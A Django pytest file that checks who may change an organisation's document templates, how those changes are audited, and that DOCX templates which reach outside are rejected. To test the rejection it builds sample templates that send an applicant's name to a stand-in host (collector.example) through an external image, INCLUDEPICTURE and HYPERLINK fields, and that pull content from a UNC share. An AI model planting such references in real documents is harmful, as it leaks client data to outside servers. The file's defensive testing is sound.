"""Who may change the organisation's templates, their history, and templates that reach outside (issue 17)."""

import io

import pytest
from django.contrib.auth.models import User
from django.urls import reverse
from docx import Document as new_docx
from docx.opc.constants import RELATIONSHIP_TYPE as RT

from article3.accounts.models import Role
from article3.audit.models import AuditEntry
from article3.cases.models import Case
from article3.docs.models import TemplateChange, TemplateOverride
from article3.docs.services import document_generate, template_override_delete, template_override_set
from article3.errors import DomainError, NotPermitted
from article3.evidence.storage import vault
from tests.conftest import client_for, make_user
from tests.docs.test_templates import SERVICE, docx_with

pytestmark = pytest.mark.django_db


@pytest.fixture
def admin(case: Case) -> User:
    return make_user(case.organisation, "admin@example.org", Role.ADMIN)


def _set(actor: object, case: Case, stream: io.BytesIO | None = None) -> TemplateOverride:
    return template_override_set(actor=actor, organisation=case.organisation, forum="generic",  # type: ignore[arg-type]
                                 kind="service_certificate", stream=stream or docx_with("Ours {{ served_on }}"),
                                 filename="ours.docx")


def test_an_attorney_on_the_case_cannot_replace_the_organisations_templates(case: Case, alice: User) -> None:
    with pytest.raises(NotPermitted):
        _set(alice, case)
    response = client_for(alice).post(reverse("case_docs_template_upload", kwargs={"case_id": case.public_id}), {
        "forum": "generic", "kind": "service_certificate", "file": _named(docx_with("Injected {{ served_on }}"))},
        follow=True)
    assert "Only an organisation admin" in response.content.decode()
    assert not TemplateOverride.objects.exists()


def test_a_viewer_cannot_either(case: Case, bob: User) -> None:
    response = client_for(bob).post(reverse("case_docs_template_upload", kwargs={"case_id": case.public_id}), {
        "forum": "generic", "kind": "service_certificate", "file": _named(docx_with("Injected"))})
    assert response.status_code == 403 and not TemplateOverride.objects.exists()


def test_an_attorney_cannot_remove_one(case: Case, alice: User, admin: User) -> None:
    override = _set(admin, case)
    with pytest.raises(NotPermitted):
        template_override_delete(actor=alice, override=override)
    client_for(alice).post(reverse("case_docs_template_delete", kwargs={"case_id": case.public_id, "pk": override.pk}))
    assert TemplateOverride.objects.filter(pk=override.pk).exists()


def test_changes_are_versioned_audited_and_shown_with_who_made_them(case: Case, alice: User, admin: User) -> None:
    first = _set(admin, case).sha256
    second = _set(admin, case, docx_with("Second {{ served_on }}")).sha256
    template_override_delete(actor=admin, override=TemplateOverride.objects.get())
    changes = list(TemplateChange.objects.order_by("version").values_list("version", "action", "sha256"))
    assert changes == [(1, "uploaded", first), (2, "uploaded", second), (3, "removed", "")]
    assert vault().exists(first), "earlier versions stay in the vault"
    audited = AuditEntry.objects.filter(action__startswith="docs.template.").order_by("seq")
    assert [(a.action, a.detail["version"], a.actor) for a in audited] == [
        ("docs.template.uploaded", 1, f"user:{admin.pk}"), ("docs.template.uploaded", 2, f"user:{admin.pk}"),
        ("docs.template.removed", 3, f"user:{admin.pk}")]
    page = client_for(alice).get(reverse("case_docs", kwargs={"case_id": case.public_id})).content.decode()
    assert "Changes to your organisation" in page and page.count("admin@example.org") == 3
    assert "Use your own template" not in page, "no upload form for an attorney"


def _external_image(text: str) -> io.BytesIO:
    document = new_docx()
    document.add_paragraph(text)
    document.part.relate_to("https://collector.example/{{ applicant.name }}.png", RT.IMAGE, is_external=True)
    out = io.BytesIO()
    document.save(out)
    out.seek(0)
    return out


def _with_field(instruction: str) -> io.BytesIO:
    document = new_docx()
    paragraph = document.add_paragraph("Before the field.")
    from docx.oxml import parse_xml

    paragraph._p.append(parse_xml(
        '<w:fldSimple xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
        f'w:instr="{instruction}"><w:r><w:t>x</w:t></w:r></w:fldSimple>'))
    out = io.BytesIO()
    document.save(out)
    out.seek(0)
    return out


@pytest.mark.parametrize("stream", [
    _external_image("Served {{ served_on }}"),
    _with_field('INCLUDEPICTURE &quot;https://collector.example/{{ applicant.name }}.png&quot; \\d'),
    _with_field('INCLUDETEXT &quot;\\\\\\\\server\\\\share\\\\x.docx&quot;'),
    _with_field('HYPERLINK &quot;https://collector.example/?n={{ applicant.name }}&quot;'),
], ids=["external-image", "includepicture", "includetext-unc", "remote-hyperlink"])
def test_a_template_that_reaches_outside_is_refused(case: Case, admin: User, stream: io.BytesIO) -> None:
    with pytest.raises(DomainError, match="must not reach outside"):
        _set(admin, case, stream)
    assert not TemplateOverride.objects.exists()


def test_an_older_template_that_reaches_outside_fails_the_generation(case: Case) -> None:
    data = _external_image("Served {{ served_on }}").getvalue()
    sha = vault().put(stream=io.BytesIO(data)).sha256
    TemplateOverride.objects.create(organisation=case.organisation, forum="generic", kind="service_certificate",
                                    sha256=sha, uploaded_by="test")
    generated = document_generate(actor="test", case=case, kind="service_certificate", options=SERVICE)
    assert generated.status == "failed" and "reach outside" in generated.error_message
    assert not generated.docx_sha256


def test_the_built_in_templates_reach_nothing_outside(case: Case) -> None:
    from article3.docs.external import external_references
    from article3.docs.render import BUILTIN

    for path in BUILTIN.rglob("*.docx"):
        assert external_references(path.read_bytes()) == [], path


def _named(stream: io.BytesIO) -> io.BytesIO:
    stream.name = "ours.docx"  # type: ignore[attr-defined]
    return stream
